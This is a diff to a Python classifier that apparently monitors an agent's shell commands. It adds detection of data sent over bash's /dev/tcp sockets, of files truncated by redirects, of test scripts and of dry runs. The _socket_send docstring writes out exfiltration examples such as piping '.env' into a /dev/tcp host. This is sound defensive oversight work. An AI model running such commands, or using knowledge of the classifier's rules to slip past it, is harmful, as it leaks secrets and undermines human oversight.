@@ -13,15 +13,30 @@ import posixpath
 from collections.abc import Callable, Iterable
 from fnmatch import fnmatchcase
 
-from oversight.classify import aci, files, guards, launchers, publishing, readers, wrappers
+from oversight.classify import (
+    aci,
+    destructive,
+    files,
+    guards,
+    launchers,
+    network_sends,
+    publishing,
+    readers,
+    wrappers,
+)
 from oversight.classify.argv import Argv, is_computed, is_dynamic, program_name, word_set
 from oversight.classify.config import ClassifierConfig
 from oversight.classify.paths import PathRules
 from oversight.classify.result import Classification, combine, merge_targets, tamper
-from oversight.classify.shell import SimpleCommand, parse_script
+from oversight.classify.shell import SimpleCommand, parse_script, printed
 from oversight.classify.toolkit import Chain, Rule, Run
 from oversight.classify.words import purpose, split_words
-from oversight.classify.wrappers import SCRIPT_SUFFIXES, hidden_source, run_file, shell_exec
+from oversight.classify.wrappers import (
+    SCRIPT_SUFFIXES,
+    hidden_source,
+    run_file,
+    shell_exec,
+)
 from oversight.kinds import Kind
 
 MAX_NESTING = 8
@@ -211,8 +226,14 @@ class CommandRules:
             parts.extend(run.side)
         elif command.builtin == "assign" and not parts:
             parts.append(shell_exec("sets shell variables"))
+        sent = _socket_send(command, run)
+        if sent is not None:
+            parts.append(sent)
         written = [r.target for r in command.redirects if r.writes]
         found_write = self.writes(written, "redirects output into", run)
+        if found_write is not None and command.argv[:1] in ((), (":",), ("true",)):
+            emptied = [r.target for r in command.redirects if r.operator in (">", ">|")]
+            found_write = destructive.with_data_loss(found_write, emptied)
         if found_write is not None:
             parts.append(found_write)
             if any(hidden_source(c) for c in (*upstream, command)):
@@ -262,7 +283,12 @@ class CommandRules:
             if fnmatchcase(base, pattern) or fnmatchcase(path, pattern):
                 return kind, f"`{path}` (config pattern `{pattern}`)"
         stem = base.split(".", 1)[0] if not base.startswith(".") else base
-        found = purpose(split_words(stem))
+        words = split_words(stem)
+        if "test" in words or "tests" in words:
+            # `train_utils_test.py`, `test_deploy.py`: a test of the named code, not the thing
+            # itself (the session's copy of the script, when known, can still raise this).
+            return Kind.EXPERIMENT_RUN, f"test script `{path}`"
+        found = purpose(words)
         if found is None and "/" in path:
             found = purpose(split_words(path.rsplit("/", 1)[0]))
         if found is not None:
@@ -286,6 +312,27 @@ def observation(
     return Classification(
         Kind.FILE_READ, f"only reads ({named}): observation, not action", found.flags, found.targets
     )
+
+
+def _socket_send(command: SimpleCommand, run: Run) -> Classification | None:
+    """Bash's `/dev/tcp/host/port`: `cat .env > /dev/tcp/h/p`, or `exec 3<>/dev/tcp/h/p` and
+    later `printf 'PUT /x HTTP/1.0' >&3`: what the command writes into the socket."""
+    hosts: list[str] = []
+    for redirect in command.redirects:
+        target = redirect.target
+        if target.startswith(("/dev/tcp/", "/dev/udp/")):
+            host = target.split("/")[3] if target.count("/") >= 3 else ""
+            if command.argv[:1] == ("exec",):
+                run.chain.sockets["fd"] = host  # the descriptor number is not always parsed
+                continue
+            hosts.append(host)
+        elif redirect.operator == ">&" and target.isdigit() and "fd" in run.chain.sockets:
+            hosts.append(run.chain.sockets["fd"])
+    if not hosts or not command.argv:
+        return None
+    sent = network_sends.sensitive_in(command.argv[1:])
+    text = printed(command.argv) if program_name(command.argv[0]) in ("echo", "printf") else ""
+    return network_sends.raw_request("bash's `/dev/tcp`", hosts[0], text, sent)
 
 
 def _config_keys(name: str, argv: Argv) -> list[str]:
@@ -316,11 +363,31 @@ def _within(cwd: str, path: str) -> str:
     return posixpath.normpath(posixpath.join(cwd, path))
 
 
+def _no_exec(name: str, args: Argv) -> bool:
+    """`make -n` prints the recipes; `bash -n script` only parses it: neither runs anything."""
+    if name in ("make", "gmake"):
+        if any(a in ("--dry-run", "--just-print", "--recon") for a in args):
+            return True
+        return any(
+            a.startswith("-") and not a.startswith("--") and "n" in a[1:] and a[1] not in "CfIjoW"
+            for a in args
+        )
+    if name in ("bash", "sh", "dash", "zsh", "ksh"):
+        for arg in args:
+            if not arg.startswith("-") or arg in ("-c", "--"):
+                return False
+            if not arg.startswith("--") and "n" in arg[1:]:
+                return True
+    return False
+
+
 def _demoted(name: str, argv: Argv, result: Classification) -> Classification:
     """`--help`, `--version` and dry runs run nothing, whatever the command would launch."""
     if result.kind not in LAUNCH_LIKE and result.kind is not Kind.FILE_WRITE:
         return result
     args = argv[1:]
+    if _no_exec(name, args):
+        return shell_exec(f"`{name}` only prints or checks what it would run", targets=(name,))
     helping = "--help" in args or "--usage" in args or (args and args[-1] == "--version")
     if result.kind in LAUNCH_LIKE:
         helping = helping or "-h" in args
